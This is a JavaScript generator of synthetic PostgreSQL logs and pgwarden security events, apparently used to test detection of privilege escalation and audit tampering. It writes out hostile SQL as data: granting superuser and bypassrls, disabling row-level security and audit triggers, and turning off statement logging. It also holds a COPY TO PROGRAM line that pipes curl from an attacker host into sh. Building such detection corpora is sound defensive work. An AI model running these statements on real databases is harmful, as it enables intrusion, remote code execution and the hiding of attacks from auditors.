// Monitor corpus: injected privilege escalation and audit tampering, as statements in the server log
// (log_statement = ddl, pgaudit ROLE lines) and pgwarden's ddl.* security events.
import { MIN, SEC, TABLES } from './basics.mjs';
import { pgauditMessage } from './builder.mjs';

/**
 * A session of `who` writing `sqls` to the log (pgaudit adds a ROLE line for role statements) and
 * the security events pgwarden's event triggers write for them (`[type, severity, fields]`).
 * Returns when the first trace appeared and when the last statement ran.
 */
function ddlSession(env, start, who, sqls, events = []) {
  const { b, r, stats } = env;
  const s = b.session(start, { user: who.role, host: who.host });
  stats.backend(who.role, start, start + 2 * MIN, who.host, who.role === 'postgres', s.pid);
  let t = start + r.int(5, 40) * SEC;
  let first = t;
  for (const sql of sqls) {
    s.rec(t, { message: `statement: ${sql}` });
    if (/^(grant|alter role|create role)/i.test(sql)) {
      const command = sql.split(' ').slice(0, 2).join(' ').toUpperCase();
      s.rec(t + 1, { message: pgauditMessage(r.int(1, 40), 'ROLE', command, sql) });
    }
    t += r.int(2, 20) * SEC;
  }
  for (const [type, severity, fields] of events) {
    const at = start + r.int(6, 45) * SEC;
    first = Math.min(first, at);
    const context = { session_user: who.role, current_user: who.role, query: sqls[0] };
    b.sec(at, type, { user: who.role, dbUser: who.role, addr: who.host, severity, fields: { ...context, ...fields } });
  }
  s.end(t + r.int(5, 60) * SEC);
  return { first, end: t };
}

/** A session of `who` whose one statement the server refused (an ERROR record with the statement). */
function refusedSession(env, start, who, record) {
  const s = env.b.session(start, { user: who.role, host: who.host });
  s.rec(start + 4 * SEC, { errorSeverity: 'ERROR', sqlstate: '42501', ...record });
  s.end(start + 20 * SEC);
  return { first: start + 4 * SEC, end: start + 4 * SEC };
}

/** A role an attacker took over, with the host it comes from. */
function intruder(env) {
  const { r, addrs, pop } = env;
  const pick = r.int(0, 3);
  if (pick === 0) return { role: 'postgres', host: addrs.attacker() };
  if (pick === 1) return { role: 'dba_omar', host: '10.0.0.10' };
  return r.pick([...pop.services, ...pop.analysts]);
}

/** What pgwarden's event trigger records about an object. */
const object = (tag, type, identity, schema = 'app') => ({
  command_tag: tag,
  object_type: type,
  object_identity: identity,
  schema,
  in_extension: false,
});

const ESCALATIONS = [
  'superuser',
  'bypassrls',
  'grant-predefined',
  'security-definer',
  'rls-disabled',
  'no-force-rls',
  'drop-policy',
  'default-privileges',
  'copy-program',
  'app-self-grant',
];

/** The kinds of case M-07, one after the other; each instance is one change by a taken-over role. */
export function privilegeEscalation(env, start, i) {
  const { b, r, pop } = env;
  const kind = ESCALATIONS[i % ESCALATIONS.length];
  if (kind === 'app-self-grant') {
    const u = env.single();
    b.sec(start, 'rbac.role_granted', {
      user: u.id,
      tenant: u.tenant,
      dbUser: 'pgw_security_admin',
      severity: 'notice',
      fields: { role: 'tenant_admin', subject: u.id },
    });
    return { kind, end: start, detectable: start, entities: [u.id], primary: 'pg-app-role-self-grant' };
  }
  const who = kind === 'copy-program' ? r.pick([...pop.services, ...pop.analysts]) : intruder(env);
  const target = r.pick([...pop.analysts, ...pop.support]).role;
  const table = r.pick(TABLES);
  const fn = `app.run_report_${r.int(10, 99)}`;
  const predefined = r.pick(['pg_execute_server_program', 'pg_read_server_files', 'pg_write_all_data']);
  const plans = {
    superuser: ['pg-privilege-escalation', [`alter role ${target} superuser`]],
    bypassrls: ['pg-privilege-escalation', [`alter role ${target} with bypassrls`]],
    'grant-predefined': ['pg-privilege-escalation', [`grant ${predefined} to ${target}`]],
    'security-definer': [
      'pg-security-definer-created',
      [
        `create or replace function ${fn}(q text) returns setof record language plpgsql security definer as $$ begin return query execute q; end $$`,
      ],
      [
        [
          'ddl.security_definer',
          'warning',
          { ...object('CREATE FUNCTION', 'function', `${fn}(text)`), owner: who.role, search_path_set: false },
        ],
      ],
    ],
    'rls-disabled': [
      'pg-rls-disabled',
      [`alter table ${table} disable row level security`],
      [
        [
          'ddl.rls',
          'warning',
          { ...object('ALTER TABLE', 'table', table), row_security: '{"after":false,"before":true}' },
        ],
      ],
    ],
    'no-force-rls': [
      'pg-rls-disabled',
      [`alter table ${table} no force row level security`],
      [
        [
          'ddl.rls',
          'warning',
          { ...object('ALTER TABLE', 'table', table), force_row_security: '{"after":false,"before":true}' },
        ],
      ],
    ],
    'drop-policy': [
      'pg-policy-dropped',
      [`drop policy tenant_isolation on ${table}`],
      [
        [
          'ddl.policy',
          'warning',
          { ...object('DROP POLICY', 'policy', `tenant_isolation on ${table}`), action: 'drop' },
        ],
      ],
    ],
    'default-privileges': [
      'pg-default-privileges-changed',
      [`alter default privileges in schema app grant select on tables to ${target}`],
      [['ddl.default_privileges', 'warning', object('ALTER DEFAULT PRIVILEGES', 'default acl', 'app')]],
    ],
  };
  let primary = 'pg-copy-program';
  let done;
  if (kind === 'copy-program') {
    done = refusedSession(env, start, who, {
      message: 'permission denied to COPY to or from an external program',
      detail:
        'Only roles with privileges of the "pg_execute_server_program" role may COPY to or from an external program.',
      statement: `copy (select '') to program 'curl -s http://${env.addrs.attacker()}/x.sh | sh'`,
    });
  } else {
    const [rule, sqls, events] = plans[kind];
    primary = rule;
    done = ddlSession(env, start, who, sqls, events);
  }
  return { kind, end: done.end, detectable: done.first, entities: [who.role, who.host], primary };
}

const TAMPERING = [
  'disable-audit-trigger',
  'disable-all-triggers',
  'drop-audit-trigger',
  'replica-role',
  'log-statement-off',
  'pgaudit-off',
  'protected-ddl',
];

/** Switching off the row audit or the logs: triggers, session_replication_role, log settings, pgwarden's own schemas. */
export function auditTampering(env, start, i) {
  const { b, r, pop } = env;
  const kind = TAMPERING[i % TAMPERING.length];
  const table = r.pick(TABLES);
  const trigger = `pgw_audit_${table.slice(4)}`;
  if (kind === 'replica-role') {
    const who = r.pick([...pop.services, ...pop.analysts]);
    const done = refusedSession(env, start, who, {
      message: 'permission denied to set parameter "session_replication_role"',
      statement: 'set session_replication_role = replica',
    });
    return {
      kind,
      end: done.end,
      detectable: done.first,
      entities: [who.role, who.host],
      primary: 'pg-audit-trigger-tampering',
    };
  }
  const who = intruder(env);
  const disabled = [
    'ddl.trigger_disabled',
    'critical',
    { ...object('ALTER TABLE', 'table', table), triggers: `["${trigger}"]` },
  ];
  const plans = {
    'disable-audit-trigger': [
      'pg-audit-trigger-tampering',
      [`alter table ${table} disable trigger ${trigger}`],
      [disabled],
    ],
    'disable-all-triggers': ['pg-audit-trigger-tampering', [`alter table ${table} disable trigger all`], [disabled]],
    'drop-audit-trigger': [
      'pg-audit-trigger-tampering',
      [`drop trigger ${trigger} on ${table}`],
      [['ddl.trigger_dropped', 'critical', object('DROP TRIGGER', 'trigger', `${trigger} on ${table}`)]],
    ],
    'log-statement-off': ['pg-audit-logging-changed', ["alter system set log_statement = 'none'"]],
    'pgaudit-off': ['pg-audit-logging-changed', ["alter system set pgaudit.log = 'none'"]],
    'protected-ddl': [
      'pg-protected-object-ddl',
      ['alter table ledger.entries drop constraint entries_chain_check'],
      [['ddl.protected_object', 'critical', object('ALTER TABLE', 'table', 'ledger.entries', 'ledger')]],
    ],
  };
  const [primary, sqls, events] = plans[kind];
  const done = ddlSession(env, start, who, sqls, events);
  if (kind === 'log-statement-off' || kind === 'pgaudit-off') {
    // The change takes effect on reload; the postmaster logs it without a user.
    const param = kind === 'pgaudit-off' ? 'pgaudit.log' : 'log_statement';
    b.log(done.end + 2 * SEC, {
      pid: 58,
      backendType: 'postmaster',
      message: 'received SIGHUP, reloading configuration files',
    });
    b.log(done.end + 2 * SEC + 80, {
      pid: 58,
      backendType: 'postmaster',
      message: `parameter "${param}" changed to "none"`,
    });
    done.end += 3 * SEC;
  }
  return { kind, end: done.end, detectable: done.first, entities: [who.role, who.host], primary };
}
